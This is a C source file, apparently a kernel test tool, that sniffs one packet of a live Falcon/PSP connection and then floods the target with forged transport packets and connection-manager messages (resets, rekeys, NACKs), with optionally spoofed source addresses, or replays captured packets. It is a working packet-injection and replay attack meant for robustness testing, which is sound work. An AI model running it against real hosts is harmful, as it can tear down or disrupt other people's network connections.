// SPDX-License-Identifier: GPL-2.0
/*
 * falcon_attack: well-formed packets that somebody else than the peer sends.
 *
 * Looks at one packet of a live connection to HOST as it leaves an interface, and
 * forges others for that connection: of it they have right what -r says, and
 * all else is random. So the attacker is off the path with the luck that -r
 * gives him, or on it. Or he sends again what he has seen, as it was. Prints how
 * many left. The bytes are laid out here by hand, from the specification and
 * connection-manager.rst.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <unistd.h>
#include <linux/types.h>
#include "capture.h"

#define PSP_PORT	1000
#define CM_PORT		4795
#define CAPTURE_MS	30000
#define NO_ENCRYPTION	15
#define ICV_LEN		16

static const char help[] =
	"usage: falcon_attack -i IFACE -k KIND,... [-r RIGHT] [-a SOURCE] [-n NUMBER]\n"
	"                     ADDRESS          NUMBER of each kind\n"
	"       falcon_attack -i IFACE -A TYPE [-w MS] [-n NUMBER] ADDRESS\n"
	"                     the next one of that TYPE again, MS later\n"
	"KIND: push, pull, answer, fin, reset, resync, nack, back, eack;\n"
	"      cm_cookie, cm_accept, cm_confirm, cm_refuse, cm_reset, cm_rekey,\n"
	"      cm_rekey_ack\n"
	"TYPE: packet, or one of cm_*\n"
	"RIGHT: letters: c CID, s SPI, p PCID, t time (IV)\n";

/* Of the connection, as a packet to the victim shows it */
static struct {
	__u8 pkt[2048];	/* all of it, from the IP header on */
	unsigned int len;
	__u16 sport;
	__u8 version;	/* of PSP */
	__u32 spi;
	__u64 iv;
	__u64 pcid;
	__u32 cid;
} seen;

#define MAX_KINDS	16

static const char *iface, *kind, *right = "", *again;
static const char *kinds[MAX_KINDS];
static int nr_kinds, family;
static unsigned int addr_len, ip_len;
static __u8 source[16], victim[16];
static bool stranger;
static long number = 1000, wait_ms;

static void die(const char *what)
{
	fprintf(stderr, "falcon_attack: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void fill(void *p, size_t len)
{
	if (getrandom(p, len, 0) != (ssize_t)len)
		die("getrandom");
}

static __u64 rnd(void)
{
	__u64 v;

	fill(&v, sizeof(v));
	return v;
}

static __u8 *put16(__u8 *p, __u16 v)
{
	*p++ = v >> 8;
	*p++ = v;
	return p;
}

static __u8 *put32(__u8 *p, __u32 v)
{
	return put16(put16(p, v >> 16), v);
}

static __u8 *put64(__u8 *p, __u64 v)
{
	return put32(put32(p, v >> 32), v);
}

static __u32 get32(const __u8 *p)
{
	return (__u32)p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];
}

static __u64 get64(const __u8 *p)
{
	return (__u64)get32(p) << 32 | get32(p + 4);
}

static bool is(const char *name)
{
	return !strcmp(kind, name);
}

static bool knows(char what)
{
	return strchr(right, what);
}

static __u32 cid(void)
{
	return knows('c') ? seen.cid : rnd() & 0xffffff;
}

static __u64 pcid(void)
{
	return knows('p') ? seen.pcid : rnd();
}

/*
 * What can be seen
 */

/* 0: no message has that name. */
static __u8 message_type(const char *name);

static __u8 *saddr_of(__u8 *ip)
{
	return ip + (family == AF_INET ? offsetof(struct iphdr, saddr) :
					 offsetof(struct ip6_hdr, ip6_src));
}

static __u8 *daddr_of(__u8 *ip)
{
	return saddr_of(ip) + addr_len;
}

/* What is behind the UDP header, if the packet is one to the victim's @port */
static __u8 *udp_to(__u8 *ip, __u16 port)
{
	struct udphdr *udp = (void *)(ip + ip_len);
	__u8 proto = ip[family == AF_INET ? offsetof(struct iphdr, protocol) :
					    offsetof(struct ip6_hdr, ip6_nxt)];

	if (ip[0] >> 4 != (family == AF_INET ? 4 : 6) ||
	    (family == AF_INET && (ip[0] & 15) != 5) || proto != IPPROTO_UDP ||
	    memcmp(daddr_of(ip), victim, addr_len) || udp->dest != htons(port))
		return NULL;
	return (__u8 *)(udp + 1);
}

/* A packet of the connection, or the message that is wanted again */
static bool learn(__u8 *p, ssize_t len)
{
	unsigned int hdr = ip_len + sizeof(struct udphdr);
	__u8 type = again ? message_type(again) : 0, *psp;

	if (len < hdr + 28 || len > (ssize_t)sizeof(seen.pkt))
		return false;
	psp = udp_to(p, type ? CM_PORT : PSP_PORT);
	if (!psp || (type && psp[5] != type))
		return false;
	memcpy(seen.pkt, p, len);
	seen.len = len;
	seen.sport = ntohs(((struct udphdr *)(p + ip_len))->source);
	seen.version = psp[3] >> 2 & 15;
	seen.spi = get32(psp + 4);
	seen.iv = get64(psp + 8);
	seen.pcid = get64(psp + 16);
	seen.cid = get32(psp + 24) & 0xffffff;
	return true;
}

static void look(void)
{
	int fd = capture_open(iface);
	static __u64 buf[8192];
	ssize_t n;

	fputs("looking\n", stderr);
	while ((n = capture_next(fd, buf, sizeof(buf), CAPTURE_MS)) > 0) {
		if (!learn((__u8 *)buf, n))
			continue;
		close(fd);
		return;
	}
	fprintf(stderr, "falcon_attack: no live packet on %s\n", iface);
	exit(1);
}

/*
 * Packets (specification, section 7)
 */

static __u8 *put_psp(__u8 *p)
{
	*p++ = 252;
	*p++ = 2;
	*p++ = 3;
	*p++ = seen.version << 2 | 3;
	p = put32(p, knows('s') ? seen.spi : rnd());
	p = put64(p, knows('t') ? seen.iv + 1000000 : rnd());
	return put64(p, pcid());
}

/* 7.2: sockets are protocol 4; the victim's function is anybody's guess. */
static __u8 *put_base(__u8 *p, __u8 type)
{
	p = put32(p, 1u << 28 | cid());
	p = put32(p, rnd() << 8 | 4 << 5 | type << 1 | 1);
	fill(p, 16);
	return p + 16;
}

/* 7.5, with the header of sockets, and one byte if it is data */
static __u8 *put_push(__u8 *p, __u8 flags)
{
	unsigned int len = flags & 1 ? 9 : 8;

	p = put32(put_base(p, 5), len);
	*p++ = flags;
	*p++ = 0;
	p = put16(p, flags & 0x10 ? ECONNRESET : 0);
	p = put32(p, 0);
	return p + len - 8;
}

/* 7.7.1, 7.7.2: bases that may lie anywhere */
static __u8 *put_ack(__u8 *p, __u8 type, unsigned int bits)
{
	p = put32(p, 1u << 28 | cid());
	p = put32(p, type << 1);
	fill(p, 16);
	p = put64(p + 16, 0);
	fill(p, bits);
	return p + bits;
}

/* 7.8: the code is one of those that exist. */
static __u8 *put_nack(__u8 *p)
{
	static const __u8 codes[] = { 1, 2, 4, 6, 7, 8 };

	p = put32(put_ack(p, 8, 0), rnd());
	return put32(p, (__u32)codes[rnd() % sizeof(codes)] << 24);
}

static __u8 *put_falcon(__u8 *p)
{
	if (is("push"))
		return put_push(p, 1);
	if (is("fin"))
		return put_push(p, 8);
	if (is("reset"))
		return put_push(p, 0x10);
	if (is("pull"))
		return put32(put32(put_base(p, 0), 100), 0);
	if (is("answer"))
		return put32(put_base(p, 3), rnd());
	if (is("resync"))
		return put32(put32(put_base(p, 6),
				   (1 + rnd() % 7) << 24 | 5 << 20), 0);
	if (is("nack"))
		return put_nack(p);
	if (is("back"))
		return put_ack(p, 9, 0);
	if (is("eack"))
		return put_ack(p, 10, 40);
	return NULL;
}

/* Behind what stays in the clear an encrypted packet is noise to anybody. */
static unsigned int forge_packet(__u8 *msg)
{
	__u8 *falcon = put_psp(msg), *p = put_falcon(falcon);

	if (!p)
		return 0;
	if (seen.version != NO_ENCRYPTION) {
		fill(falcon + 4, p + ICV_LEN - falcon - 4);
		p += ICV_LEN;
	}
	return p - msg;
}

/*
 * Messages of the connection manager (connection-manager.rst)
 */

static __u8 *tlv(__u8 *p, __u16 type, __u16 len)
{
	return put16(put16(p, type), len);
}

static __u8 *put_noise(__u8 *p, __u16 type, __u16 len)
{
	p = tlv(p, type, len);
	fill(p, len);
	return p + len;
}

static __u8 *put_echo(__u8 *p)
{
	return put64(put32(tlv(p, 0x8002, 12), cid()), pcid());
}

static __u8 *put_wrapped(__u8 *p)
{
	p = put_noise(p, 0x800e, 56);
	put32(p - 56, 0);	/* version and zeros */
	return p;
}

static __u8 *put_reason(__u8 *p)
{
	return put32(tlv(p, 0x8011, 4), 10u << 16);
}

static __u8 *put_accept(__u8 *p)
{
	p = put32(tlv(p, 0x8001, 20), rnd() & 0xffffff);
	p = put32(put32(p, 7), 1 | rnd());
	p = put_echo(put64(p, rnd()));
	p = put_noise(p, 0x8004, 12);
	p = put_noise(p, 0x8005, 8);
	p = put16(put16(tlv(p, 0x8006, 4), 64), 128);
	p = put16(tlv(p, 0x8007, 12), 1400);
	p = put16(p, 64 << 8 | 1);
	p = put64(p, 0xc000c001c002c003);
	p = put32(put32(put32(tlv(p, 0x8008, 12), 1000), 250), 100000);
	p = put_noise(p, 0x8009, 12);
	p = put32(tlv(p, 0x800a, 4), 3);
	p = put32(tlv(p, 0x800b, 1), 0);
	p = put_noise(p, 0x800d, 32);
	return put_noise(put_wrapped(p), 0x800f, 32);
}

static __u8 *put_cookie(__u8 *p)
{
	return put_noise(p, 0xfffe, 16);
}

static __u8 *put_confirm(__u8 *p)
{
	return put_noise(put_wrapped(put_echo(p)), 0x800f, 32);
}

static __u8 *put_auth(__u8 *p)
{
	return put_noise(p, 0xffff, 24);
}

static __u8 *put_reset(__u8 *p)
{
	return put_auth(put_reason(put_echo(p)));
}

static __u8 *put_rekey(__u8 *p)
{
	return put_auth(put_wrapped(put_echo(p)));
}

static __u8 *put_rekey_ack(__u8 *p)
{
	return put_auth(put32(tlv(put_echo(p), 0x8012, 4), rnd() | 1));
}

static const struct {
	const char *name;
	__u8 type;
	__u8 *(*put)(__u8 *p);
} messages[] = {
	{ "cm_cookie",		2, put_cookie },
	{ "cm_accept",		3, put_accept },
	{ "cm_confirm",		4, put_confirm },
	{ "cm_refuse",		5, put_reason },
	{ "cm_reset",		6, put_reset },
	{ "cm_rekey",		7, put_rekey },
	{ "cm_rekey_ack",	8, put_rekey_ack },
	{ }
};

static __u8 message_type(const char *name)
{
	size_t i;

	for (i = 0; messages[i].name; i++) {
		if (!strcmp(messages[i].name, name))
			return messages[i].type;
	}
	return 0;
}

static unsigned int forge_message(__u8 *msg)
{
	size_t i;
	__u8 *p;

	for (i = 0; messages[i].name; i++) {
		if (!is(messages[i].name))
			continue;
		p = messages[i].put(msg + 16);
		memcpy(msg, "FLCN\1", 5);
		msg[5] = messages[i].type;
		put16(msg + 6, p - msg);
		fill(msg + 8, 8);
		return p - msg;
	}
	return 0;
}

static __u32 add16(__u32 sum, const __u8 *p, unsigned int len)
{
	for (; len > 1; len -= 2, p += 2)
		sum += p[0] << 8 | p[1];
	return len ? sum + (p[0] << 8) : sum;
}

/* Of UDP, with the pseudo header; the kernel fills in that of IP. */
static void set_checksum(__u8 *ip, unsigned int len)
{
	struct udphdr *udp = (void *)(ip + ip_len);
	__u32 sum = IPPROTO_UDP + len;

	udp->check = 0;
	sum = add16(sum, saddr_of(ip), 2 * addr_len);
	sum = add16(sum, (__u8 *)udp, len);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	udp->check = htons(sum == 0xffff ? sum : ~sum);
}

static void put_ip(__u8 *p, unsigned int len)
{
	struct iphdr *ip = (void *)p;
	struct ip6_hdr *ip6 = (void *)p;

	if (family == AF_INET)
		*ip = (struct iphdr) {
			.version = 4, .ihl = 5, .ttl = 64,
			.protocol = IPPROTO_UDP,
		};
	else
		*ip6 = (struct ip6_hdr) {
			.ip6_flow = htonl(6 << 28), .ip6_plen = htons(len),
			.ip6_nxt = IPPROTO_UDP, .ip6_hlim = 64,
		};
	memcpy(saddr_of(p), stranger ? source : saddr_of(seen.pkt), addr_len);
	memcpy(daddr_of(p), victim, addr_len);
}

static unsigned int forge(__u8 *pkt)
{
	struct udphdr *udp = (void *)(pkt + ip_len);
	__u8 *msg = (__u8 *)(udp + 1);
	bool cm = !strncmp(kind, "cm_", 3);
	unsigned int len = cm ? forge_message(msg) : forge_packet(msg);

	if (!len)
		return 0;
	len += sizeof(*udp);
	put_ip(pkt, len);
	*udp = (struct udphdr) {
		.source = htons(cm ? CM_PORT : seen.sport),
		.dest = htons(cm ? CM_PORT : PSP_PORT),
		.len = htons(len),
	};
	set_checksum(pkt, len);
	return ip_len + len;
}

/* As it was, but for the checksum, which may have been left to the device */
static unsigned int repeat(__u8 *pkt)
{
	memcpy(pkt, seen.pkt, seen.len);
	set_checksum(pkt, seen.len - ip_len);
	return seen.len;
}

static long attack(void)
{
	union {
		struct sockaddr sa;
		struct sockaddr_in in;
		struct sockaddr_in6 in6;
	} to = { .sa.sa_family = family };
	int fd = socket(family, SOCK_RAW, IPPROTO_RAW);
	static __u64 pkt[256];
	unsigned int len;
	long i, sent = 0;

	if (fd < 0)
		die("socket");
	if (family == AF_INET)
		memcpy(&to.in.sin_addr, victim, addr_len);
	else
		memcpy(&to.in6.sin6_addr, victim, addr_len);
	for (i = 0; i < number * nr_kinds; i++) {
		kind = kinds[i % nr_kinds];
		len = again ? repeat((__u8 *)pkt) : forge((__u8 *)pkt);
		if (!len) {
			fputs(help, stderr);
			exit(2);
		}
		/* What comes too fast for the victim is not judged. */
		if (i % 32 == 31)
			usleep(1000);
		if (sendto(fd, pkt, len, 0, &to.sa, sizeof(to)) == (ssize_t)len)
			sent++;
		else if (errno != ENOBUFS)
			die("sendto");
	}
	return sent;
}

static void parse_kinds(char *list)
{
	while (list && nr_kinds < MAX_KINDS)
		kinds[nr_kinds++] = strsep(&list, ",");
}

static bool parse_victim(const char *host)
{
	family = strchr(host, ':') ? AF_INET6 : AF_INET;
	addr_len = family == AF_INET ? 4 : 16;
	ip_len = family == AF_INET ? sizeof(struct iphdr) :
				     sizeof(struct ip6_hdr);
	return inet_pton(family, host, victim) == 1;
}

static bool parse(int argc, char **argv)
{
	const char *from = NULL;
	int c;

	while ((c = getopt(argc, argv, "i:k:A:w:r:a:n:h")) != -1) {
		switch (c) {
		case 'i':
			iface = optarg;
			break;
		case 'A':
			again = optarg;
			nr_kinds = 1;
			break;
		case 'k':
			parse_kinds(optarg);
			break;
		case 'w':
			wait_ms = atol(optarg);
			break;
		case 'r':
			right = optarg;
			break;
		case 'a':
			from = optarg;
			break;
		case 'n':
			number = atol(optarg);
			break;
		default:
			return false;
		}
	}
	if (optind != argc - 1 || !iface || !nr_kinds ||
	    !parse_victim(argv[optind]))
		return false;
	stranger = from;
	if (stranger && inet_pton(family, from, source) != 1)
		return false;
	return !again || !strcmp(again, "packet") || message_type(again);
}

int main(int argc, char **argv)
{
	if (!parse(argc, argv)) {
		fputs(help, stderr);
		return 2;
	}
	look();
	usleep(wait_ms * 1000);
	printf("%ld\n", attack());
	return 0;
}
